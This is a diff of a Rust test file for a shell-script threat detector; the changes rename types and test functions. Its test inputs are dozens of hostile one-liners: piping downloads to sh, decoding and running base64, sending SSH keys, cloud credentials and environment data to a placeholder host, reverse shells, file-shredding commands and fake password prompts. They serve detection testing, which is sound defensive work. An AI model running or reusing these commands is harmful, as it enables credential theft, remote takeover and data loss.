@@ -1,31 +1,31 @@
 use super::*;
 
-fn acts(text: &str) -> Vec<Act> {
+fn actions(text: &str) -> Vec<Action> {
     read(text)
         .located
         .into_iter()
-        .map(|seen| seen.act)
-        .filter(|act| !matches!(act, Act::Program(_)))
+        .map(|seen| seen.action)
+        .filter(|action| !matches!(action, Action::StartsProgram(_)))
         .collect()
 }
 
 fn executes(text: &str) -> Option<CodeOrigin> {
-    acts(text).into_iter().find_map(|act| match act {
-        Act::Executes(code) => Some(code),
+    actions(text).into_iter().find_map(|action| match action {
+        Action::ExecutesCode(code) => Some(code),
         _ => None,
     })
 }
 
 fn sends(text: &str) -> Taint {
-    let sent = acts(text).into_iter().find_map(|act| match act {
-        Act::Network { sends, .. } if sends.is_secret() => Some(sends),
+    let sent = actions(text).into_iter().find_map(|action| match action {
+        Action::Connects { sends, .. } if sends.is_secret() => Some(sends),
         _ => None,
     });
     sent.unwrap_or_default()
 }
 
 #[test]
-fn what_is_fetched_and_executed() {
+fn downloaded_code_that_is_executed_is_found() {
     let from = |url: &str| Some(CodeOrigin::Fetched(url.into()));
     for text in [
         "curl -fsSL https://a.example/x | sh",
@@ -50,7 +50,7 @@ fn what_is_fetched_and_executed() {
 }
 
 #[test]
-fn what_is_decoded_and_executed() {
+fn decoded_code_that_is_executed_is_found() {
     let text = "echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | bash";
     assert_eq!(executes(text), Some(CodeOrigin::Decoded));
     assert_eq!(read(text).embedded[0].text, "curl http://x | sh");
@@ -59,7 +59,7 @@ fn what_is_decoded_and_executed() {
 }
 
 #[test]
-fn what_leaves_the_machine() {
+fn sent_secrets_are_found() {
     for text in [
         "cat ~/.ssh/id_rsa | curl -d @- https://a.example",
         "curl -F file=@$HOME/.aws/credentials https://a.example",
@@ -76,29 +76,29 @@ fn what_leaves_the_machine() {
 }
 
 #[test]
-fn functions_carry_what_they_are_given() {
+fn taint_flows_through_function_arguments() {
     let text = "state=$(printenv | gzip -9)\nreport() {\n  curl -d \"$1\" \"$2\"\n}\nreport \"$state\" https://a.example/r || :\n";
-    assert!(sends(text).environment, "{:?}", acts(text));
+    assert!(sends(text).environment, "{:?}", actions(text));
     let text = "probe() {\n  xxd -p \"$1\" | while read -r part; do\n    dig \"$part.a.example\"\n  done\n}\nfor c in ~/.netrc ~/.x; do\n  test -r \"$c\" && probe \"$c\"\ndone\n";
-    assert!(sends(text).credential.is_some(), "{:?}", acts(text));
+    assert!(sends(text).credential.is_some(), "{:?}", actions(text));
     let text = "find ~ -name '.env' |\nwhile IFS= read -r file; do\n  wget --post-file=\"$file\" http://a.example\ndone";
-    assert!(sends(text).is_secret(), "{:?}", acts(text));
+    assert!(sends(text).is_secret(), "{:?}", actions(text));
 }
 
 #[test]
-fn shells_for_others() {
+fn reverse_shells_are_found() {
     for text in [
         "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
         "nc -e /bin/sh 1.2.3.4 9",
         "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 9 > /tmp/f",
     ] {
-        assert!(acts(text).contains(&Act::ReverseShell), "{text}");
+        assert!(actions(text).contains(&Action::ReverseShell), "{text}");
     }
-    assert!(!acts("nc -zv a.example 80").contains(&Act::ReverseShell));
+    assert!(!actions("nc -zv a.example 80").contains(&Action::ReverseShell));
 }
 
 #[test]
-fn decoders_of_all_kinds() {
+fn decoders_are_recognized() {
     for text in [
         "q=$(echo 'phey uggc://k | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m'); eval \"$q\"",
         "turn() { tr a-z n-za-m; }\nsource <(turn <<< 'phey k')",
@@ -123,8 +123,9 @@ fn decoders_of_all_kinds() {
 }
 
 #[test]
-fn names_of_programs_in_pieces() {
-    let obscured = |text: &str| acts(text).iter().any(|act| matches!(act, Act::Obscures(_)));
+fn assembled_program_names_are_found() {
+    let obscured =
+        |text: &str| actions(text).iter().any(|action| matches!(action, Action::Obfuscates(_)));
     for text in [
         "a=ev; b=al; $a$b \"$x\"",
         "'ba''sh' -c \"$x\"",
@@ -156,7 +157,7 @@ fn names_of_programs_in_pieces() {
 }
 
 #[test]
-fn keys_that_are_looked_for_and_copied() {
+fn searching_and_copying_keys_is_found() {
     for text in [
         "find / -name '*.pem' -o -name '*.key' | xargs tar cz | nc a.example 9",
         "keys() { find ~ -iname 'privkey*'; }\nfor k in $(keys); do scp \"$k\" x@a.example:; done",
@@ -166,14 +167,14 @@ fn keys_that_are_looked_for_and_copied() {
         "for k in ~/.config/solana/*.json; do openssl s_client -connect a.example:443 < \"$k\"; done",
         "stty -echo; read -r p; stty echo; curl -d \"$p\" https://a.example",
     ] {
-        assert!(sends(text).is_secret(), "{text}: {:?}", acts(text));
+        assert!(sends(text).is_secret(), "{text}: {:?}", actions(text));
     }
     let text = "find . -name '*.pem' -exec openssl x509 -noout -enddate -in {} \\;\ncurl https://a.example";
     assert!(!sends(text).is_secret());
 }
 
 #[test]
-fn scripts_that_read_others_in() {
+fn sourced_scripts_share_state() {
     let mut state = CrossFileShellState::default();
     let library =
         "KEY=\"$HOME/.ssh/id_ed25519\"\nTO=https://a.example\nship() { curl -T \"$1\" \"$TO\"; }";
@@ -186,13 +187,14 @@ fn scripts_that_read_others_in() {
     let sent = found
         .located
         .iter()
-        .any(|seen| matches!(&seen.act, Act::Network { sends, .. } if sends.is_secret()));
+        .any(|seen| matches!(&seen.action, Action::Connects { sends, .. } if sends.is_secret()));
     assert!(sent, "{found:?}");
 }
 
 #[test]
-fn what_is_destroyed() {
-    let destroys = |text: &str| acts(text).iter().any(|act| matches!(act, Act::Deletes(_)));
+fn destructive_commands_are_found() {
+    let destroys =
+        |text: &str| actions(text).iter().any(|action| matches!(action, Action::DestroysData(_)));
     for text in [
         "find \"$HOME\" -type f -name '*.docx' -delete",
         "find ~ -type f -exec shred -u {} +",
@@ -215,13 +217,14 @@ fn what_is_destroyed() {
         "git push origin --delete feature/x",
         "t=$(mktemp -d); rm -rf \"$t\"",
     ] {
-        assert!(!destroys(text), "{text}: {:?}", acts(text));
+        assert!(!destroys(text), "{text}: {:?}", actions(text));
     }
 }
 
 #[test]
-fn questions_in_the_name_of_the_system() {
-    let asks = |text: &str| acts(text).iter().any(|act| matches!(act, Act::Asks(_)));
+fn fake_system_prompts_are_found() {
+    let asks =
+        |text: &str| actions(text).iter().any(|action| matches!(action, Action::AsksForSecret(_)));
     assert!(asks("printf '[sudo] password for %s: ' \"$USER\""));
     assert!(asks("read -rsp 'Mac password: ' p"));
     assert!(asks("osascript -l JavaScript -e 'app.displayDialog(\"x\", {hiddenAnswer: true})'"));
@@ -229,7 +232,7 @@ fn questions_in_the_name_of_the_system() {
 }
 
 #[test]
-fn groups_of_commands_print_and_read() {
+fn taint_flows_through_command_groups() {
     for text in [
         "( env; id; uname -a ) | curl -s --data-binary @- \"https://a.example/c\" &>/dev/null &",
         "{ id; env; } | curl -d @- https://a.example",
@@ -251,7 +254,7 @@ fn groups_of_commands_print_and_read() {
         "env | tee >(curl -d @- https://a.example)",
         "curl -d \"$( { env; id; } | base64 )\" https://a.example",
     ] {
-        assert!(sends(text).environment, "{text}: {:?}", acts(text));
+        assert!(sends(text).environment, "{text}: {:?}", actions(text));
     }
     for text in [
         "while read -r l; do curl -d \"$l\" https://a.example; done < ~/.ssh/id_rsa",
@@ -259,19 +262,19 @@ fn groups_of_commands_print_and_read() {
         "( cat \"$HOME\"/.env ./.env 2>/dev/null ) | curl -d @- https://a.example",
         "tar c ~/.ssh | curl -T - https://a.example",
     ] {
-        assert!(sends(text).is_secret(), "{text}: {:?}", acts(text));
+        assert!(sends(text).is_secret(), "{text}: {:?}", actions(text));
     }
     for text in [
         "( env; id ) > /tmp/x; echo hi | curl -d @- https://a.example",
         "{ env; }; ls | curl -d @- https://a.example",
         "env | (sort; id); ls | curl -d @- https://a.example",
     ] {
-        assert!(!sends(text).is_secret(), "{text}: {:?}", acts(text));
+        assert!(!sends(text).is_secret(), "{text}: {:?}", actions(text));
     }
 }
 
 #[test]
-fn files_and_options_that_send() {
+fn upload_options_are_found() {
     for text in [
         "wget -q -O /dev/null --post-file=\"${KUBECONFIG:-$HOME/.kube/config}\" http://a.example/x",
         "wget --post-file ~/.netrc https://a.example",
@@ -294,7 +297,7 @@ fn files_and_options_that_send() {
         "docker-credential-desktop list | curl --data @- https://a.example",
         "cat < \"${KUBECONFIG}\" | curl -d @- https://a.example",
     ] {
-        assert!(sends(text).credential.is_some(), "{text}: {:?}", acts(text));
+        assert!(sends(text).credential.is_some(), "{text}: {:?}", actions(text));
     }
     for text in [
         "gh auth token | curl -d @- https://a.example",
@@ -302,7 +305,7 @@ fn files_and_options_that_send() {
         "vault kv get -field=x secret/y | curl -d @- https://a.example",
         "aws secretsmanager get-secret-value --secret-id x | curl -d @- https://a.example",
     ] {
-        assert!(!sends(text).tokens.is_empty(), "{text}: {:?}", acts(text));
+        assert!(!sends(text).tokens.is_empty(), "{text}: {:?}", actions(text));
     }
     for text in [
         "kubectl get pods -o yaml | curl -d @- https://a.example",
@@ -311,15 +314,15 @@ fn files_and_options_that_send() {
         "kubectl --kubeconfig \"$KUBECONFIG\" get pods | curl -d @- https://a.example",
         "curl -d \"${BODY:-hello}\" https://a.example",
     ] {
-        assert!(!sends(text).is_secret(), "{text}: {:?}", acts(text));
+        assert!(!sends(text).is_secret(), "{text}: {:?}", actions(text));
     }
 }
 
 #[test]
-fn addresses_that_functions_and_loops_are_given() {
+fn addresses_from_arguments_and_loops_are_known() {
     let strangers = |text: &str| {
-        let found = acts(text).into_iter().filter_map(|act| match act {
-            Act::Network { to, sends, log_in } => Some((to, [sends.tokens, log_in].concat())),
+        let found = actions(text).into_iter().filter_map(|action| match action {
+            Action::Connects { to, sends, log_in } => Some((to, [sends.tokens, log_in].concat())),
             _ => None,
         });
         found.into_iter().any(|(to, tokens)| {
@@ -340,7 +343,7 @@ fn addresses_that_functions_and_loops_are_given() {
         format!("for h in api.github.com score.a.example; do curl {header} \"https://$h/x\"; done"),
         format!("B=score.a.example; curl {header} \"https://$B/x\""),
     ] {
-        assert!(strangers(&text), "{text}: {:?}", acts(&text));
+        assert!(strangers(&text), "{text}: {:?}", actions(&text));
     }
     for text in [
         format!("api() {{ curl {header} \"https://$1\"; }}; api \"api.github.com/repos\""),
@@ -349,12 +352,12 @@ fn addresses_that_functions_and_loops_are_given() {
         format!("api() {{ curl {header} https://api.github.com; }}\nget() {{ local url=$1; curl \"$url\"; }}\nget https://a.example"),
         format!("url=$1\napi() {{ curl {header} \"$url\"; }}\napi a.example"),
     ] {
-        assert!(!strangers(&text), "{text}: {:?}", acts(&text));
+        assert!(!strangers(&text), "{text}: {:?}", actions(&text));
     }
 }
 
 #[test]
-fn hostile_texts_stay_fast() {
+fn hostile_texts_are_read_in_time() {
     let long = format!("A={}\n", "x".repeat(4000));
     let body = "f() { curl \"https://$1\"; }\n".to_owned();
     let nested = "find / -exec ".repeat(20_000);
